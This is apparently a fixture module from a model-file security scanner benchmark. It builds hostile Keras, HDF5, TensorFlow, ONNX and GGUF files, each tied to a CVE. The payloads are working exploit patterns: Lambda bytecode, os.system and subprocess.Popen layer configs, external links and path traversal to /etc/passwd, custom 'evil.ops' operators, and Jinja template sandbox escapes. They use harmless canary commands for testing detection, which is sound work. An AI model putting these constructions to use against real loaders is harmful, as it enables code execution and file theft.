"""Hostile graphs and configurations: Keras, TensorFlow, ONNX, GGUF."""

import json
import struct
from collections.abc import Callable
from typing import Any, Final

from untaint.bench.hostile_models.base import Hostile, archive, field

_MARSHAL: Final = "4wAAAAAAAAAAAAAAAAEAAAABAAAAQwAAAHMEAAAAZABTACkBTqkAcgEAAAA="
"""Bytecode of a function that does nothing; a loader would run whatever stands there."""


def _layer(module: str | None, name: str, config: dict[str, Any]) -> dict[str, Any]:
    found = {"class_name": name, "config": config, "registered_name": None}
    return found if module is None else {"module": module, **found}


def _model(layer: dict[str, Any]) -> dict[str, Any]:
    return _layer("keras", "Sequential", {"name": "sequential", "layers": [layer]})


def _keras(layer: dict[str, Any]) -> Callable[[str], bytes]:
    def build(canary: str) -> bytes:
        config = json.dumps(_model(layer)).replace("CANARY", canary)
        return archive({"metadata.json": b'{"keras_version": "3.8.0"}', "config.json": config.encode()})

    return build


def _function(module: str, name: str, **config: Any) -> dict[str, Any]:
    """A layer whose argument is a function by its name."""
    function = {"module": module, "class_name": "function", "config": name, "registered_name": name}
    return _layer("keras.layers", "Lambda", {"name": "l", "function": function, "arguments": config})


def _h5(layer: dict[str, Any]) -> Callable[[str], bytes]:
    def build(canary: str) -> bytes:
        import io

        import h5py

        file = io.BytesIO()
        with h5py.File(file, "w") as stored:
            stored.attrs["model_config"] = json.dumps(_model(layer)).replace("CANARY", canary)
            stored.attrs["keras_version"] = "2.12.0"
        return file.getvalue()

    return build


def _h5_link(_canary: str) -> bytes:
    import io

    import h5py

    file = io.BytesIO()
    with h5py.File(file, "w") as stored:
        stored["weights"] = h5py.ExternalLink("/etc/other.h5", "/secret")
    return file.getvalue()


def _h5_external(_canary: str) -> bytes:
    import io

    import h5py

    file = io.BytesIO()
    with h5py.File(file, "w") as stored:
        stored.create_dataset("weights", shape=(8,), dtype="u1", external=[("/etc/passwd", 0, 8)])
    return file.getvalue()


def _h5_filter(_canary: str) -> bytes:
    import io

    import h5py
    import numpy as np

    file = io.BytesIO()
    with h5py.File(file, "w") as stored:
        stored.create_dataset("weights", data=np.zeros(64), chunks=(64,), compression="gzip")
    content = bytearray(file.getvalue())
    place = content.find(b"deflate")
    struct.pack_into("<H", content, place - 8, 32_765)
    return bytes(content)


def _graph(*operations: str, function: bool = False, asset: str = "") -> Callable[[str], dict[str, bytes]]:
    """A SavedModel with these operations."""

    def build(_canary: str) -> dict[str, bytes]:
        number = 3 if function else 1
        nodes = b"".join(field(number, field(1, f"n{place}") + field(2, name)) for place, name in enumerate(operations))
        graph = field(2, field(1, field(1, field(1, "f")) + nodes)) if function else nodes
        meta = field(2, graph) + (field(6, field(2, asset)) if asset else b"")
        return {"saved_model.pb": field(1, 1) + field(2, meta)}

    return build


def _frozen(_canary: str) -> bytes:
    """A graph alone, as TensorFlow 1 froze them."""
    return field(1, field(1, "x") + field(2, "Placeholder")) + field(1, field(1, "y") + field(2, "PyFunc"))


def _metadata(_canary: str) -> dict[str, bytes]:
    """The configuration that Keras 2 keeps beside a SavedModel."""
    layer = _layer(None, "Lambda", {"name": "l", "function": [_MARSHAL, None, None], "function_type": "lambda"})
    found = _graph("Const")("")
    return {**found, "keras_metadata.pb": field(1, field(2, 1) + field(3, "root") + field(5, json.dumps(layer)))}


def _onnx(nodes: bytes = b"", tensor: bytes = b"", domain: str = "", attribute: bytes = b"") -> bytes:
    graph = nodes + (field(5, tensor) if tensor else b"") + field(2, "g") + attribute
    return field(1, 8) + field(2, "somebody") + field(7, graph) + field(8, field(1, domain) + field(2, 17))


def _external(**entries: str) -> Callable[[str], bytes]:
    """A tensor whose numbers are elsewhere."""

    def build(_canary: str) -> bytes:
        pairs = b"".join(field(13, field(1, key) + field(2, value)) for key, value in entries.items())
        return _onnx(tensor=field(1, 4) + field(2, 1) + field(8, "w") + pairs + field(14, 1))

    return build


def _node(operator: str, domain: str = "") -> bytes:
    return field(1, field(1, "x") + field(2, "y") + field(4, operator) + (field(7, domain) if domain else b""))


def _hidden_node(_canary: str) -> bytes:
    """A node in a graph within an attribute of a node within a function."""
    inner = field(5, field(1, "then_branch") + field(6, _node("Steal", "evil.ops") + field(2, "sub")))
    return field(1, 8) + field(7, field(2, "g")) + field(25, field(1, "f") + field(7, field(4, "If") + inner))


def _gguf(template: str, tensors: int = 0, entries: int | None = None) -> Callable[[str], bytes]:
    def build(_canary: str) -> bytes:
        text = template.encode()
        key = b"tokenizer.chat_template"
        value = struct.pack("<Q", len(key)) + key + struct.pack("<IQ", 8, len(text)) + text
        return b"GGUF" + struct.pack("<IQQ", 3, tensors, 1 if entries is None else entries) + value + bytes(-len(value) % 32)

    return build


def _gguf_tensor(_canary: str) -> bytes:
    name = struct.pack("<Q", 1) + b"w"
    return b"GGUF" + struct.pack("<IQQ", 3, 1, 0) + name + struct.pack("<IQIQ", 1, 25_000_000_000, 0, 0) + bytes(64)


_LAMBDA: Final = {"module": "builtins", "class_name": "__lambda__", "config": {"code": _MARSHAL}}
_ESCAPE: Final = "{{ cycler.__init__.__globals__.os.mkdir('x') }}"
CASES: Final = (
    Hostile("Lambda", "m.keras", "CVE-2024-3660", _keras(_layer("keras.layers", "Lambda", {"name": "l", "function": _LAMBDA}))),
    Hostile("Lambda in HDF5", "m.h5", "CVE-2025-9905", _h5(_layer(None, "Lambda", {"function": [_MARSHAL, None, None]}))),
    Hostile("Lambda beside a SavedModel", "saved", "CVE-2024-3660", _metadata),
    Hostile("function of os", "m.keras", "CVE-2025-1550", _keras(_function("os", "system", command="mkdir CANARY"))),
    Hostile("class of another module", "m.keras", "CVE-2025-1550", _keras(_layer("subprocess", "Popen", {"args": "mkdir CANARY"}))),
    Hostile("function as activation", "m.keras", "CVE-2025-1550", _keras(_layer("keras.layers", "Activation", {
        "activation": {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}}))),
    Hostile("get_file", "m.keras", "CVE-2025-8747", _keras(_function("keras.utils", "get_file", origin="http://x/y", extract=True))),
    Hostile("switch that turns checks off", "m.keras", "CVE-2025-9906", _keras(
        _layer("keras.config", "enable_unsafe_deserialization", {}))),
    Hostile("module of PyTorch", "m.keras", "CVE-2025-49655", _keras(_layer("keras.layers", "TorchModuleWrapper", {"module": "UEsDBA=="}))),
    Hostile("model from a path", "m.keras", "TFSMLayer", _keras(_layer("keras.layers", "TFSMLayer", {"filepath": "/srv/other"}))),
    Hostile("words from a path", "m.keras", "CVE-2025-12058", _keras(
        _layer("keras.layers", "StringLookup", {"vocabulary": "/etc/passwd"}))),
    Hostile("custom object", "m.keras", "code of somebody's", _keras(_layer("builtins", "Mine", {}) | {"registered_name": "pkg>Mine"})),
    Hostile("function in HDF5", "m.h5", "CVE-2025-9905", _h5(_layer("os", "system", {"command": "mkdir CANARY"}))),
    Hostile("external link", "m.h5", "outside file", _h5_link),
    Hostile("external numbers", "m.h5", "outside file", _h5_external),
    Hostile("filter library", "m.h5", "compiled library", _h5_filter),
    Hostile("PyFunc", "saved", "Python in a graph", _graph("Const", "PyFunc")),
    Hostile("WriteFile in a function", "saved", "files in a graph", _graph("Const", "WriteFile", function=True)),
    Hostile("ReadFile", "saved", "files in a graph", _graph("ReadFile")),
    Hostile("weights saved elsewhere", "saved", "files in a graph", _graph("SaveV2", function=True)),
    Hostile("data sets in a graph", "saved", "files in a graph", _graph("TFRecordDataset")),
    Hostile("unknown operation", "saved", "library of somebody's", _graph("StealWeights")),
    Hostile("frozen graph", "graph.pb", "Python in a graph", _frozen),
    Hostile("graph as text", "saved", "graph that is not read", lambda _canary: {"saved_model.pbtxt": b'node { op: "PyFunc" }\n'}),
    Hostile("asset outside", "saved", "path escape", _graph("Const", asset="../../../etc/passwd")),
    Hostile("absolute path", "m.onnx", "CVE-2024-27318", _external(location="/etc/passwd")),
    Hostile("path with dots", "m.onnx", "CVE-2025-51480", _external(location="sub/../../../secret", offset="0", length="4")),
    Hostile("path not beside", "m.onnx", "external_data", _external(location="weights.bin")),
    Hostile("address in memory", "m.onnx", "external_data", _external(location="*/_ORT_MEM_ADDR_/*", offset="4096", length="99")),
    Hostile("operator of somebody's", "m.onnx", "library of somebody's",
            lambda _canary: _onnx(_node("Steal", "evil.ops"), domain="evil.ops")),
    Hostile("operator in a branch", "m.onnx", "library of somebody's", _hidden_node),
    Hostile("Python operator", "m.onnx", "Python in a graph", lambda _canary: _onnx(_node("PyOp", "com.microsoft"))),
    Hostile("template that escapes", "m.gguf", "CVE-2024-34359", _gguf(_ESCAPE)),
    Hostile("template by filter", "m.gguf", "CVE-2024-34359", _gguf("{{ messages|attr('__class__') }}")),
    Hostile("template by parts", "m.gguf", "CVE-2024-34359", _gguf("{{ messages['__cla' ~ 'ss__'] }}")),
    Hostile("2^60 tensors", "m.gguf", "size that is not there", _gguf("a", tensors=1 << 60)),
    Hostile("2^60 entries", "m.gguf", "size that is not there", _gguf("a", entries=1 << 60)),
    Hostile("tensor of 100 GB in GGUF", "m.gguf", "size that is not there", _gguf_tensor),
)  # fmt: skip
